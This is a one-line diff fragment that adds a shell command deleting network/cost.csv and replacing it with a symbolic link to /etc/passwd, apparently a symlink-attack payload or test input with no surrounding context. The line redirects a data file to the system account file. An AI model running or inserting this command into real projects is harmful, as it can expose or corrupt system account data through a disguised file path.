@@ -1,0 +1,1 @@
+rm network/cost.csv; ln -s /etc/passwd network/cost.csv
